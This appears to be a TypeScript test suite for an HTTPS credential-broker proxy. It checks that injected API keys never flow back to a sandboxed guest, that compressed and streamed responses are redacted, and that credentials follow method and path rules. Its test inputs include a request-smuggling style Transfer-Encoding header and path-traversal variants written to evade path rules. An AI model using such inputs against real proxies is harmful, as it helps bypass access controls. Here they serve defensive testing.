  it.live("an upstream connection whose response ended before the request body did is not reused", () =>
    scoped(
      Effect.gen(function* () {
        const env = yield* setup()
        const host = `${NAME}:${env.upstream.port}`
        const { socket } = yield* tlsThroughProxy(env, NAME)
        // /hello answers at once, before the body has arrived
        const early = yield* exchange(
          socket,
          `POST /hello HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 20\r\n\r\n12345`,
          responseComplete
        )
        expect(early).toMatch(/^HTTP\/1\.1 200/)
        // the rest of the body; then, once a reusable connection would be back in the pool, the next request
        socket.write("678901234567890")
        yield* Effect.sleep("300 millis")
        const started = Date.now()
        const next = yield* exchange(socket, `GET /hello HTTP/1.1\r\nHost: ${host}\r\n\r\n`, responseComplete)
        expect(Date.now() - started).toBeLessThan(4000)
        expect(next).toMatch(/^HTTP\/1\.1 200/)
        socket.destroy()
        expect(env.upstream.seen.map((r) => [r.method, r.url])).toEqual([
          ["POST", "/hello"],
          ["GET", "/hello"]
        ])
        expect(env.upstream.seen[0]!.connection).not.toBe(env.upstream.seen[1]!.connection)
      })
    )
  )

  it.live("a transfer coding other than chunked is refused, not forwarded", () =>
    scoped(
      Effect.gen(function* () {
        const env = yield* setup()
        const host = `${NAME}:${env.upstream.port}`
        const { socket } = yield* tlsThroughProxy(env, NAME)
        const answer = yield* exchange(
          socket,
          `POST /echo HTTP/1.1\r\nHost: ${host}\r\nTransfer-Encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
          responseComplete
        )
        expect(answer).toMatch(/^HTTP\/1\.1 (400|501)/)
        socket.destroy()
        expect(env.upstream.seen).toHaveLength(0)
      })
    )
  )

  it.live(
    "the placeholder never leaves the host: dropped from other headers (logged), refused in the query string",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup()
          const host = `${NAME}:${env.upstream.port}`
          const { socket } = yield* tlsThroughProxy(env, NAME)
          const ok = yield* exchange(
            socket,
            `GET /hello HTTP/1.1\r\nHost: ${host}\r\nx-api-key: abox-placeholder\r\n` +
              `Authorization: Bearer abox-placeholder\r\nX-Other: pre-ABOX-PLACEHOLDER-post\r\n\r\n`,
            responseComplete
          )
          expect(ok).toMatch(/^HTTP\/1\.1 200/)
          socket.destroy()
          for (const query of ["/hello?key=abox-placeholder", "/hello?key=%61box-placeholder"]) {
            const fresh = yield* tlsThroughProxy(env, NAME)
            const refused = yield* exchange(
              fresh.socket,
              `GET ${query} HTTP/1.1\r\nHost: ${host}\r\n\r\n`,
              responseComplete
            )
            expect(refused).toMatch(/^HTTP\/1\.1 400/)
            expect(refused).toContain("placeholder-in-url")
            fresh.socket.destroy()
          }
          expect(env.upstream.seen).toHaveLength(1)
          const seen = env.upstream.seen[0]!
          expect(seen.headers["x-api-key"]).toBe(env.secret)
          expect(seen.headers["authorization"]).toBeUndefined()
          expect(seen.headers["x-other"]).toBeUndefined()
          expect(JSON.stringify(env.upstream.seen).toLowerCase()).not.toContain("abox-placeholder")
          yield* env.session.active.pipe(
            Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
            Effect.timeout("5 seconds")
          )
          const requests = (yield* env.logEntries).filter((e) => e.event === "request")
          expect(requests.map((e) => [e.status, e.reason, e.credential, e.droppedHeaders])).toEqual([
            [200, undefined, true, ["authorization", "x-other"]],
            [400, "placeholder-in-url", false, undefined],
            [400, "placeholder-in-url", false, undefined]
          ])
          const text = formatBrokerLog(yield* readBrokerLog(env.session.logPath))
          expect(text).toContain("placeholder dropped from authorization, x-other")
        })
      )
  )

  it.live(
    "a preset through resolve host:port and a policy upstream CA (the host's NODE_EXTRA_CA_CERTS kept)",
    () =>
      scoped(
        Effect.gen(function* () {
          const fs = yield* FileSystem.FileSystem
          const other = yield* Effect.promise(() => makeSessionCa({ commonName: "unrelated CA" }))
          const otherFile = path.join(yield* fs.makeTempDirectoryScoped(), "other-ca.pem")
          yield* fs.writeFileString(otherFile, other.certPem)
          const run = (upstreamCaFiles: ReadonlyArray<string>, hostExtra: "upstream" | "none") =>
            Effect.gen(function* () {
              // the broker reads the host's NODE_EXTRA_CA_CERTS when a session starts
              const saved = process.env["NODE_EXTRA_CA_CERTS"]
              yield* Effect.addFinalizer(() =>
                Effect.sync(() =>
                  saved === undefined
                    ? delete process.env["NODE_EXTRA_CA_CERTS"]
                    : (process.env["NODE_EXTRA_CA_CERTS"] = saved)
                )
              )
              const upstreamCaCopy = path.join(yield* fs.makeTempDirectoryScoped(), "extra.pem")
              if (hostExtra === "upstream") process.env["NODE_EXTRA_CA_CERTS"] = upstreamCaCopy
              else delete process.env["NODE_EXTRA_CA_CERTS"]
              return yield* setup({
                name: "api.anthropic.com",
                extraCa: false,
                policy: (port, envVar) => ({
                  format: 1,
                  allow: [],
                  credentials: [{ preset: "anthropic", fromEnv: envVar }],
                  resolve: { "api.anthropic.com": `127.0.0.1:${port}` },
                  upstreamCaFiles
                }),
                beforeBroker: (upstreamCaPem) =>
                  fs.writeFileString(upstreamCaCopy, upstreamCaPem).pipe(Effect.orDie)
              })
            })
          const get = (env: Env) =>
            Effect.gen(function* () {
              const { socket, handshake } = yield* tlsThroughProxy(
                env,
                "api.anthropic.com",
                "api.anthropic.com:443"
              )
              expect(handshake).toBe("ok")
              const answer = yield* exchange(
                socket,
                `GET /v1/reflect HTTP/1.1\r\nHost: api.anthropic.com\r\nAuthorization: Bearer abox-placeholder\r\n\r\n`,
                responseComplete
              )
              socket.destroy()
              return answer
            })
          // the policy names the upstream's CA
          const viaPolicy = yield* Effect.scoped(
            Effect.gen(function* () {
              const env = yield* run(["$UPSTREAM_CA"], "none")
              expect(yield* get(env)).toMatch(/^HTTP\/1\.1 200/)
              expect(
                env.upstream.seen.map((r) => [r.headers["x-api-key"], r.headers["authorization"]])
              ).toEqual([[env.secret, undefined]])
              return true
            })
          )
          expect(viaPolicy).toBe(true)
          // the policy names another CA; the host's NODE_EXTRA_CA_CERTS still vouches for the upstream
          yield* Effect.scoped(
            Effect.gen(function* () {
              const env = yield* run([otherFile], "upstream")
              expect(yield* get(env)).toMatch(/^HTTP\/1\.1 200/)
            })
          )
          // neither: the upstream's certificate is not trusted
          yield* Effect.scoped(
            Effect.gen(function* () {
              const env = yield* run([otherFile], "none")
              expect(yield* get(env)).toMatch(/^HTTP\/1\.1 502/)
              expect(env.upstream.seen).toHaveLength(0)
            })
          )
        })
      )
  )

  it.live("an unavailable credential: open and close lines do not say a credential was injected", () =>
    scoped(
      Effect.gen(function* () {
        const env = yield* setup({
          policy: (port) => ({
            format: 1,
            allow: [{ host: NAME, ports: [port] }],
            credentials: [{ host: NAME, header: "x-api-key", fromEnv: "ABOX_TEST_UNSET_VARIABLE_X" }],
            resolve: { [NAME]: "127.0.0.1" }
          })
        })
        const { socket } = yield* tlsThroughProxy(env, NAME)
        const answer = yield* exchange(
          socket,
          `GET /hello HTTP/1.1\r\nHost: ${NAME}:${env.upstream.port}\r\nConnection: close\r\n\r\n`,
          responseComplete
        )
        expect(answer).toMatch(/^HTTP\/1\.1 502/)
        socket.destroy()
        yield* env.session.active.pipe(
          Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
          Effect.timeout("5 seconds")
        )
        const log = yield* env.logEntries
        expect(log.map((e) => [e.event, e.credential])).toEqual([
          ["open", false],
          ["request", false],
          ["close", false]
        ])
        expect(formatBrokerLog(yield* readBrokerLog(env.session.logPath))).not.toContain(
          "credential injected"
        )
      })
    )
  )
})

/** `n` requests' responses through curl over one connection (curl fails on a framing error) */
const curlReused = (env: Env, urls: ReadonlyArray<string>, extra: ReadonlyArray<string> = []) =>
  Effect.promise(() =>
    run("curl", [
      "-sS",
      "-i",
      "--suppress-connect-headers",
      "--max-time",
      "20",
      "--proxy",
      `http://127.0.0.1:${env.proxy.port}`,
      "--cacert",
      env.caFile,
      ...extra,
      ...urls
    ]).then(
      ({ stdout, stderr }) => ({ stdout, stderr, ok: true }),
      (error: { stdout?: string; stderr?: string }) => ({
        stdout: error.stdout ?? "",
        stderr: error.stderr ?? "",
        ok: false
      })
    )
  )

/** the secret is in no session file (broker.log included) */
const expectNoSecretOnDisk = (env: Env, secrets: ReadonlyArray<string>) =>
  Effect.gen(function* () {
    const files = yield* allFiles(env.fs, env.sessionDir)
    expect(files.map((f) => path.basename(f))).toContain("broker.log")
    for (const file of files) {
      const bytes = Buffer.from(yield* env.fs.readFile(file))
      for (const secret of secrets) expect(bytes.includes(Buffer.from(secret))).toBe(false)
    }
    const text = formatBrokerLog(yield* readBrokerLog(env.session.logPath))
    for (const secret of secrets) expect(text).not.toContain(secret)
  })

const settled = (env: Env) =>
  env.session.active.pipe(
    Effect.repeat({ until: (n) => n === 0, schedule: Schedule.spaced("10 millis") }),
    Effect.timeout("5 seconds")
  )

describe("HttpsBroker credential hosts: no secret flows back to the guest", () => {
  it.live.skipIf(!hasCurl)(
    "an upstream echoing the request's headers: the key comes back as the placeholder in the body, headers and status line, with framing kept",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup()
          const base = `https://${NAME}:${env.upstream.port}`
          // length-framed, chunked, and written a few bytes per write (boundaries inside the key)
          const queries = ["/reflect", "/reflect?chunked=1", "/reflect?split=3", "/reflect?split=1&chunked=1"]
          const answer = yield* curlReused(
            env,
            queries.map((q) => `${base}${q}`)
          )
          expect(answer.stderr).toBe("")
          expect(answer.ok).toBe(true)
          expect(env.upstream.seen).toHaveLength(4)
          for (const seen of env.upstream.seen) expect(seen.headers["x-api-key"]).toBe(env.secret)
          // one connection carried the four (curl reused it: every response was framed right)
          expect(new Set(env.upstream.seen.map((r) => r.connection)).size).toBe(1)
          expect(answer.stdout).not.toContain(env.secret)
          const responses = answer.stdout.split(/(?=^HTTP\/1\.1 )/m)
          expect(responses).toHaveLength(4)
          for (const response of responses) {
            expect(response).toMatch(/^HTTP\/1\.1 200 OK abox-placeholder\r\n/)
            expect(response.toLowerCase()).toContain("x-reflect-x-api-key: abox-placeholder\r\n")
            const body = JSON.parse(response.slice(response.indexOf("\r\n\r\n") + 4)) as {
              headers: Record<string, string>
              reflected: Record<string, string>
            }
            expect(body.headers["x-api-key"]).toBe("abox-placeholder")
            expect(body.reflected["x-api-key"]).toBe("abox-placeholder")
          }
          yield* settled(env)
          const requests = (yield* env.logEntries).filter((e) => e.event === "request")
          // status line, one header, two places in the body
          expect(requests.map((e) => [e.status, e.credential, e.redacted, e.path])).toEqual(
            queries.map(() => [200, true, 4, "/reflect"])
          )
          expect(formatBrokerLog(yield* readBrokerLog(env.session.logPath))).toContain(
            "secret replaced in the response (4x)"
          )
          yield* expectNoSecretOnDisk(env, [env.secret])
        })
      )
  )

  it.live.skipIf(!hasCurl)(
    "a coded response (gzip, br, deflate, whatever was asked) is decoded and searched; one the broker cannot decode is refused",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup()
          const base = `https://${NAME}:${env.upstream.port}`
          for (const encoding of ["gzip", "br", "deflate"]) {
            const answer = yield* curlReused(env, [`${base}/reflect?encoding=${encoding}`], ["--compressed"])
            expect(answer.ok).toBe(true)
            expect(answer.stdout).not.toContain(env.secret)
            expect(answer.stdout.toLowerCase()).not.toContain("content-encoding")
            expect(answer.stdout).toContain(`"x-api-key":"abox-placeholder"`)
          }
          // the broker asked for an uncoded body, whatever the client accepts
          expect(env.upstream.seen.map((r) => r.headers["accept-encoding"])).toEqual([
            "identity",
            "identity",
            "identity"
          ])
          const refused = yield* curlReused(env, [`${base}/reflect?encoding=compress`])
          expect(refused.stdout).toMatch(/^HTTP\/1\.1 502/)
          expect(refused.stdout).toContain("response-encoding-not-supported")
          expect(refused.stdout).not.toContain(env.secret)
          yield* settled(env)
          const requests = (yield* env.logEntries).filter((e) => e.event === "request")
          expect(requests.map((e) => [e.decision, e.status, e.reason, e.redacted])).toEqual([
            ["allow", 200, undefined, 4],
            ["allow", 200, undefined, 4],
            ["allow", 200, undefined, 4],
            ["deny", 502, "response-encoding-not-supported", undefined]
          ])
          yield* expectNoSecretOnDisk(env, [env.secret])
        })
      )
  )

  it.live(
    "an event stream (SSE) is searched and still streams: an event reaches the guest before the next is sent",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup()
          const host = `${NAME}:${env.upstream.port}`
          const { socket } = yield* tlsThroughProxy(env, NAME)
          const first = yield* exchange(
            socket,
            `GET /v1/sse HTTP/1.1\r\nHost: ${host}\r\nAccept: text/event-stream\r\n\r\n`,
            (t) => t.includes(`"n":1`) && t.includes("\n\n", t.indexOf(`"n":1`)),
            3000
          )
          // the upstream has not sent the second event yet: the first came through on its own
          expect(first).toContain(`data: {"n":1,"key":"abox-placeholder"}\n\n`)
          expect(first).not.toContain(`"n":2`)
          const rest = yield* Effect.zipRight(
            Effect.sync(() => env.upstream.releaseSse()),
            exchange(socket, "", (t) => t.endsWith("0\r\n\r\n"), 3000)
          )
          expect(rest).toContain(`data: {"n":2,"key":"abox-placeholder"}\n\n`)
          socket.destroy()
          expect(first + rest).not.toContain(env.secret)
          yield* settled(env)
          const requests = (yield* env.logEntries).filter((e) => e.event === "request")
          expect(requests.map((e) => [e.status, e.redacted, e.path])).toEqual([[200, 2, "/v1/sse"]])
        })
      )
  )

  it.live.skipIf(!hasCurl)("basic auth: neither the token nor its base64 form comes back", () =>
    scoped(
      Effect.gen(function* () {
        const env = yield* setup({
          policy: (port, envVar) => ({
            format: 1,
            allow: [{ host: NAME, ports: [port] }],
            credentials: [
              { host: NAME, header: "Authorization", basicUser: "x-access-token", fromEnv: envVar }
            ],
            resolve: { [NAME]: "127.0.0.1" }
          })
        })
        const basic = Buffer.from(`x-access-token:${env.secret}`).toString("base64")
        const answer = yield* curlReused(env, [`https://${NAME}:${env.upstream.port}/reflect?split=5`])
        expect(answer.ok).toBe(true)
        expect(env.upstream.seen.map((r) => r.headers["authorization"])).toEqual([`Basic ${basic}`])
        expect(answer.stdout).not.toContain(basic)
        expect(answer.stdout).not.toContain(env.secret)
        expect(answer.stdout).toContain(`"authorization":"Basic abox-placeholder"`)
        expect(answer.stdout.toLowerCase()).toContain("x-reflect-authorization: basic abox-placeholder\r\n")
        yield* settled(env)
        yield* expectNoSecretOnDisk(env, [env.secret, basic])
      })
    )
  )
})

describe("HttpsBroker credential hosts: a rule's methods and paths", () => {
  it.live(
    "outside its methods and paths a request goes up without the credential (logged with its path); dot segments and escapes are outside",
    () =>
      scoped(
        Effect.gen(function* () {
          const env = yield* setup({
            policy: (port, envVar) => ({
              format: 1,
              allow: [{ host: NAME, ports: [port] }],
              credentials: [
                { host: NAME, header: "x-api-key", fromEnv: envVar, methods: ["POST"], paths: ["/v1/"] }
              ],
              resolve: { [NAME]: "127.0.0.1" }
            })
          })
          const host = `${NAME}:${env.upstream.port}`
          const { socket } = yield* tlsThroughProxy(env, NAME)
          const long = `/v1/${"a".repeat(2000)}`
          const requests: ReadonlyArray<readonly [string, string]> = [
            ["POST", "/v1/reflect?token=not-logged"],
            ["GET", "/v1/reflect"],
            ["POST", "/v2/reflect"],
            ["POST", "/v1/../v2/reflect"],
            ["POST", "/v1/%2e%2e/v2/reflect"],
            ["POST", "/v1/..%2fv2/reflect"],
            ["POST", "/v1\\..\\v2/reflect"],
            ["POST", long]
          ]
          for (const [method, target] of requests) {
            const answer = yield* exchange(
              socket,
              // the guest's own value for the credential header never goes up either
              `${method} ${target} HTTP/1.1\r\nHost: ${host}\r\nx-api-key: guest-chosen\r\nContent-Length: 0\r\n\r\n`,
              responseComplete
            )
            expect(answer).toMatch(/^HTTP\/1\.1 (200|404)/)
          }
          socket.destroy()
          expect(env.upstream.seen.map((r) => [r.method, r.headers["x-api-key"]])).toEqual([
            ["POST", env.secret],
            ["GET", undefined],
            ["POST", undefined],
            ["POST", undefined],
            ["POST", undefined],
            ["POST", undefined],
            ["POST", undefined],
            ["POST", env.secret]
          ])
          yield* settled(env)
          const logged = (yield* env.logEntries).filter((e) => e.event === "request")
          expect(logged.map((e) => [e.decision, e.credential, e.reason])).toEqual([
            ["allow", true, undefined],
            ["allow", false, "credential-not-for-method"],
            ["allow", false, "credential-not-for-path"],
            ["allow", false, "credential-not-for-path"],
            ["allow", false, "credential-not-for-path"],
            ["allow", false, "credential-not-for-path"],
            ["allow", false, "credential-not-for-path"],
            ["allow", true, undefined]
          ])
          // the path without its query, cut at the log's field bound
          expect(logged.slice(0, 7).map((e) => e.path)).toEqual(
            requests.slice(0, 7).map(([, t]) => t.split("?")[0])
          )
          expect(logged[7]!.path).toBe(`${long.slice(0, 256)}…(${long.length} chars)`)
          const text = formatBrokerLog(yield* readBrokerLog(env.session.logPath))
          expect(text).toContain("POST  /v1/reflect  200  credential injected")
          expect(text).toContain("(credential-not-for-method)")
          expect(text).not.toContain("not-logged")
          yield* expectNoSecretOnDisk(env, [env.secret])
        })
      )
  )
})
